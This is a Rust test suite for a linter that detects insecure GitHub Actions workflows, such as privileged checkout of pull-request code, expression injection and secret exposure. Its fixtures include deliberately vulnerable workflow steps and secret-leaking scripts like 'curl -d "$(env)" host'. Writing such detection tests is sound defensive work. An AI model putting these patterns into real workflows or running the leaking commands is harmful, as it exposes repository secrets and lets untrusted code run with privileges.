//! A privileged workflow that takes the pull request's code, in whatever way it is written.

use super::wrong_classes::{assert_silent, assert_speaks};

/// A new workflow with these steps.
fn with_steps(trigger: &str, steps: &str) -> String {
    let text = format!(
        "on: {trigger}\njobs:\n  a:\n    runs-on: x\n    steps:\n{steps}      - run: make\n"
    );
    let lines: String = text.lines().map(|line| format!("+{line}\n")).collect();
    format!("=== .github/workflows/ci.yml\n{lines}")
}

/// Steps that check out the pull request.
const UNSAFE: &[&str] = &[
    "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
    "      - uses: actions/checkout@v4\n        with: { ref: \"${{ github.event.pull_request.head.sha }}\" }\n",
    "      - { uses: actions/checkout@v4, with: { ref: \"${{ github.head_ref }}\" } }\n",
    "      - uses: actions/checkout@v4\n        with:\n          ref: >-\n            ${{ github.event.pull_request.head.sha }}\n",
    "      - name: c\n        with:\n          ref: ${{ github.event.pull_request.merge_commit_sha }}\n        uses: actions/checkout@v4\n",
    "      - uses: actions/checkout@v4\n        with:\n          \"ref\": ${{ github['event']['pull_request'][\"head\"]['sha'] }}\n",
    "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ GitHub.Event.pull_request . head . SHA }}\n",
    "      - uses: actions/checkout@v4\n        with:\n          ref: refs/pull/${{ github.event.number }}/merge\n",
    "      - uses: actions/checkout@v4\n        with:\n          ref: pull/${{ github.event.number }}/head\n",
    "      - uses: actions/checkout@v4\n        with:\n          repository: ${{ github.event.pull_request.head.repo.full_name }}\n",
    "      - run: |\n          git fetch origin \"pull/${{ github.event.number }}/head\"\n          git checkout FETCH_HEAD\n",
    "      - run: git fetch origin pull/${{ github.event.number }}/head:pr && git switch pr\n",
    "      - run: git fetch origin pull/${{ github.event.number }}/head:pr\n      - run: git checkout pr\n",
    "      - run: |\n          git remote add fork ${{ github.event.pull_request.head.repo.clone_url }}\n          git fetch fork\n          git checkout fork/x\n",
    "      - run: git clone ${{ github.event.pull_request.head.repo.clone_url }} .\n",
    "      - run: |\n          git fetch origin\n          git checkout \\\n            \"$SHA\"\n        env:\n          SHA: ${{ github.event.pull_request.head.sha }}\n",
    "      - run: echo \"SHA=${{ github.event.pull_request.head.sha }}\" >> \"$GITHUB_ENV\"\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ env.SHA }}\n",
    "      - id: pr\n        run: |\n          sha=$(gh pr view 1 --json headRefOid --jq .headRefOid)\n          echo \"sha=$sha\" >> $GITHUB_OUTPUT\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ steps.pr.outputs.sha }}\n",
    "      - id: pr\n        uses: actions/github-script@v7\n        with:\n          script: |\n            core.setOutput('sha', pr.data.head.sha)\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ steps.pr.outputs.sha }}\n",
];

/// Steps that do not.
const SAFE: &[&str] = &[
    "      - uses: actions/checkout@v4\n",
    "      - uses: actions/checkout@v4\n        with: { ref: main }\n",
    "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.base.sha }}\n",
    "      - uses: actions/labeler@v5\n        with:\n          repo-token: ${{ secrets.GITHUB_TOKEN }}\n",
    "      - run: echo ${{ github.event.pull_request.head.sha }}\n      - uses: actions/checkout@v4\n",
    "      - run: |\n          git fetch origin pull/1/head:pr\n          git checkout main\n          git diff main pr\n",
    "      - run: gh pr comment ${{ github.event.pull_request.number }} --body thanks\n",
    "      - run: git checkout \"$OTHER\"\n        env:\n          SHA: ${{ github.event.pull_request.head.sha }}\n          OTHER: main\n",
    "      - uses: actions/checkout@v4\n        if: github.event_name == 'pull_request'\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
    "      - uses: actions/github-script@v7\n        with:\n          script: github.rest.issues.addLabels({ labels: ['x'] })\n",
];

/// Ways to say that a workflow starts on the privileged trigger.
const TRIGGERS: &[&str] = &[
    "pull_request_target",
    "[push, pull_request_target]",
    "{ pull_request_target: { types: [opened] } }",
    "\n  pull_request_target:\n    types: [opened]",
    "\n  - \"pull_request_target\"",
    "\n  'pull_request_target' : {}",
    "\"pull_request\\x5ftarget\"",
    "[push, \"\\u0070ull_request_target\"]",
    "\n  \"pull_request\\x5Ftarget\": {}",
    "\"pull_request\\\n  _target\"",
];

#[test]
fn workflow_checkout_does_not_depend_on_how_it_is_written() {
    for steps in UNSAFE {
        for trigger in TRIGGERS {
            assert_speaks("workflow-checkout", &with_steps(trigger, steps));
        }
        assert_silent("workflow-checkout", &with_steps("pull_request", steps));
    }
}

#[test]
fn workflow_checkout_is_silent_where_the_base_is_checked_out() {
    for steps in SAFE {
        assert_silent(
            "workflow-checkout",
            &with_steps("pull_request_target", steps),
        );
    }
}

#[test]
fn workflow_checkout_follows_the_output_of_another_job() {
    let text = "on: issue_comment\njobs:\n  b:\n    needs: a\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ needs.a.outputs.it }}\n  a:\n    outputs:\n      it: ${{ steps.x.outputs.sha }}\n    steps:\n      - id: x\n        run: echo \"sha=${{ github.event.workflow_run.head_sha }}\" >> $GITHUB_OUTPUT\n";
    let lines: String = text.lines().map(|line| format!("+{line}\n")).collect();
    assert_speaks(
        "workflow-checkout",
        &format!("=== .github/workflows/b.yml\n{lines}"),
    );
    let safe = lines.replace("github.event.workflow_run.head_sha", "github.sha");
    assert_silent(
        "workflow-checkout",
        &format!("=== .github/workflows/b.yml\n{safe}"),
    );
}

#[test]
fn workflow_checkout_is_news_once() {
    let old = "=== .github/workflows/ci.yml\n on: pull_request_target\n jobs:\n   a:\n     steps:\n       - uses: actions/checkout@v4\n         with:\n";
    let edited = "-          ref: ${{ github.event.pull_request.head.sha }}\n+          ref: ${{ github.head_ref }}\n";
    assert_silent("workflow-checkout", &format!("{old}{edited}"));
    let second = "           ref: ${{ github.event.pull_request.head.sha }}\n+      - run: gh pr checkout 1\n";
    assert_speaks("workflow-checkout", &format!("{old}{second}"));
    let beside = "           ref: ${{ github.event.pull_request.head.sha }}\n+      - run: make\n";
    assert_silent("workflow-checkout", &format!("{old}{beside}"));
    let variable = "=== .github/workflows/ci.yml\n on: pull_request_target\n env:\n-  SHA: main\n+  SHA: ${{ github.head_ref }}\n jobs:\n   a:\n     steps:\n       - uses: actions/checkout@v4\n         with:\n           ref: ${{ env.SHA }}\n";
    assert_speaks("workflow-checkout", variable);
}

#[test]
fn workflow_checkout_reads_lines_where_the_rest_is_unknown() {
    let part = "=== .github/workflows/ci.yml\n@@ 3\n on: pull_request_target\n@@ 40\n         with:\n+          ref: ${{ github.event.pull_request.head.sha }}\n";
    assert_speaks("workflow-checkout", part);
}

/// The steps of a new workflow, and what the rules say of them.
fn assert_steps(rule: &str, steps: &str, speaks: bool) {
    let text = with_steps("pull_request", steps);
    match speaks {
        true => assert_speaks(rule, &text),
        false => assert_silent(rule, &text),
    }
}

/// One step in each layout that YAML has for it.
const LAYOUTS: &[&str] = &[
    "      - KEY: VALUE\n",
    "      - name: x\n        KEY: VALUE\n",
    "      - KEY : \"VALUE\"\n",
    "      - \"KEY\": 'VALUE'\n",
    "      - { KEY: \"VALUE\" }\n",
    "      - {name: x, KEY: \"VALUE\", env: {A: b}}\n",
    "      - {\n        \"KEY\": \"VALUE\",\n        }\n",
    "      - KEY: >-\n          VALUE\n        name: x\n",
    "      -\n        KEY:\n          VALUE\n",
];

#[test]
fn a_step_is_read_alike_in_every_layout() {
    for layout in LAYOUTS {
        let step = |key: &str, value: &str| layout.replace("KEY", key).replace("VALUE", value);
        assert_steps("unpinned-action", &step("uses", "acme/t@main"), true);
        for safe in ["actions/checkout@main", "./x/y@main", "acme/t@v1"] {
            assert_steps("unpinned-action", &step("uses", safe), false);
        }
        let echo = |inside: &str| step("run", &format!("echo ${{{{ {inside} }}}}"));
        assert_steps(
            "workflow-injection",
            &echo("github.event.issue.title"),
            true,
        );
        assert_steps(
            "workflow-injection",
            &echo("github.event.issue.number"),
            false,
        );
    }
}

#[test]
fn an_expression_is_read_alike_in_every_spelling() {
    let echo = |inside: &str| format!("      - run: |\n          echo \"${{{{ {inside} }}}}\"\n");
    for inside in [
        "github.event.issue.title",
        "GitHub.Event.Issue.Title",
        "github.event['issue']['title']",
        "github['event'].issue.title",
        "github['head_ref']",
        "format('{0}', github.event.issue.title)",
        "format('{{{0}}}', github.event.issue.title)",
        "github.event.commits.*.message",
        "join(github.event.commits[0].message, '}}')",
        "github.event.pull_request.base.ref == 'x' && github.event.pull_request.head.ref",
        "toJSON(github.event)",
        "toJson( github.event.pull_request )",
        "ToJSON(github)",
    ] {
        assert_steps("workflow-injection", &echo(inside), true);
    }
    for inside in [
        "github.event.pull_request.base.ref",
        "github.event.issue.number",
        "toJSON(matrix)",
        "toJSON(github.event.pull_request.head.sha)",
        "'}}' && github.sha",
    ] {
        assert_steps("workflow-injection", &echo(inside), false);
    }
    for inside in [
        "toJSON(secrets)",
        "ToJson( Secrets )",
        "format('{0}', tojson(secrets))",
    ] {
        let step = format!("      - env:\n          ALL: ${{{{ {inside} }}}}\n        run: x\n");
        assert_steps("workflow-secrets", &step, true);
    }
}

/// A script that shows its environment shows the secrets in it, however it is written.
#[test]
fn a_script_that_prints_its_environment_is_named_where_secrets_are_in_it() {
    let step = |script: &str, secret: &str| {
        let env = format!("        env:\n          TOKEN: {secret}\n");
        [
            format!("      - run: {script}\n{env}"),
            format!("      - run: |\n          make\n          {script}\n{env}"),
        ]
    };
    let secret = "${{ secrets.TOKEN }}";
    for script in [
        "env",
        "printenv",
        "env | sort",
        "make; env > all.txt",
        "printenv | base64",
        "sudo env",
        "export -p",
        "declare -x",
        "curl -d \"$(env)\" host",
        "cat /proc/self/environ",
    ] {
        for text in step(script, secret) {
            assert_steps("workflow-secrets", &text, true);
        }
        for text in step(script, "1") {
            assert_steps("workflow-secrets", &text, false);
        }
    }
    for script in [
        "env A=1 make",
        "printenv HOME",
        "source env/bin/activate",
        "cd env",
        "tox -e env",
        "export PATH",
        "/usr/bin/env python",
    ] {
        for text in step(script, secret) {
            assert_steps("workflow-secrets", &text, false);
        }
    }
}

/// What a step has as a variable is text to its shell, wherever it is written.
#[test]
fn a_variable_of_a_step_is_no_script() {
    for steps in [
        "      - run: echo \"$T\"\n        env: { T: \"${{ github.event.issue.title }}\" }\n",
        "      - { run: 'echo \"$T\"', env: { T: \"${{ github.event.issue.title }}\" } }\n",
        "      - { env: { T: \"${{ github.event.issue.title }}\" }, run: 'echo \"$T\"' }\n",
        "      - env:\n          run: ${{ github.event.issue.title }}\n        run: echo\n",
        "      - run: |\n          echo \"$T\"\n        env:\n          T: ${{ github.event.issue.title }}\n",
    ] {
        assert_steps("workflow-injection", steps, false);
    }
}

#[test]
fn a_workflow_that_is_no_yaml_is_read_line_by_line() {
    for step in [
        "      - { uses: acme/t@main }\n",
        "      - \"uses\": acme/t@main\n",
    ] {
        assert_steps("unpinned-action", &format!("{step}      - [\n"), true);
    }
    for step in [
        "      - { run: 'echo ${{ github.event.issue.title }}' }\n",
        "      - run: |\n          echo ${{ GitHub.event.issue.title }}\n",
    ] {
        assert_steps("workflow-injection", &format!("{step}      - [\n"), true);
    }
}

#[test]
fn a_trigger_and_a_right_are_read_alike_in_every_layout() {
    for trigger in TRIGGERS {
        let text = with_steps(trigger, "");
        assert_speaks("workflow-trigger", &text);
        for right in [
            "permissions: { contents: write }",
            "permissions: { issues: read, 'contents' : \"write\" }",
            "permissions:\n+  \"contents\": write",
            "\"permissions\": 'write-all'",
        ] {
            assert_speaks("workflow-permissions", &format!("{text}+{right}\n"));
        }
    }
}

/// Law: what others call is no way past the rule: whatever checks out the pull request in an action or in a workflow on
/// `workflow_call` warns, and what does not is silent.
#[test]
fn what_a_privileged_workflow_may_call_warns() {
    let called = |steps: &str| {
        let workflow = with_steps("workflow_call", steps);
        let deeper: String = steps
            .lines()
            .map(|line| format!("+{}\n", &line[2..]))
            .collect();
        let action = format!(
            "=== .github/actions/a/action.yml\n+runs:\n+  using: composite\n+  steps:\n{deeper}"
        );
        [workflow, action]
    };
    for fixture in UNSAFE.iter().flat_map(|steps| called(steps)) {
        assert_speaks("workflow-checkout", &fixture);
    }
    for fixture in SAFE.iter().flat_map(|steps| called(steps)) {
        assert_silent("workflow-checkout", &fixture);
    }
}

/// Law: through a matrix and through JSON the commit of a pull request stays what it is.
#[test]
fn a_detour_of_the_commit_is_followed() {
    for (matrix, commit) in [
        (
            "r: [\"${{ github.event.pull_request.head.sha }}\"]",
            "matrix.r",
        ),
        ("include: [{ r: \"${{ github.head_ref }}\" }]", "matrix.r"),
        (
            "r: [1]",
            "fromJSON(toJSON(github.event)).pull_request.head.sha",
        ),
    ] {
        let text = format!(
            "on: pull_request_target\njobs:\n  a:\n    strategy:\n      matrix:\n        {matrix}\n    steps:\n      \
             - uses: actions/checkout@v4\n        with:\n          ref: ${{{{ {commit} }}}}\n      - run: make\n"
        );
        let lines: String = text.lines().map(|line| format!("+{line}\n")).collect();
        assert_speaks(
            "workflow-checkout",
            &format!("=== .github/workflows/ci.yml\n{lines}"),
        );
    }
}
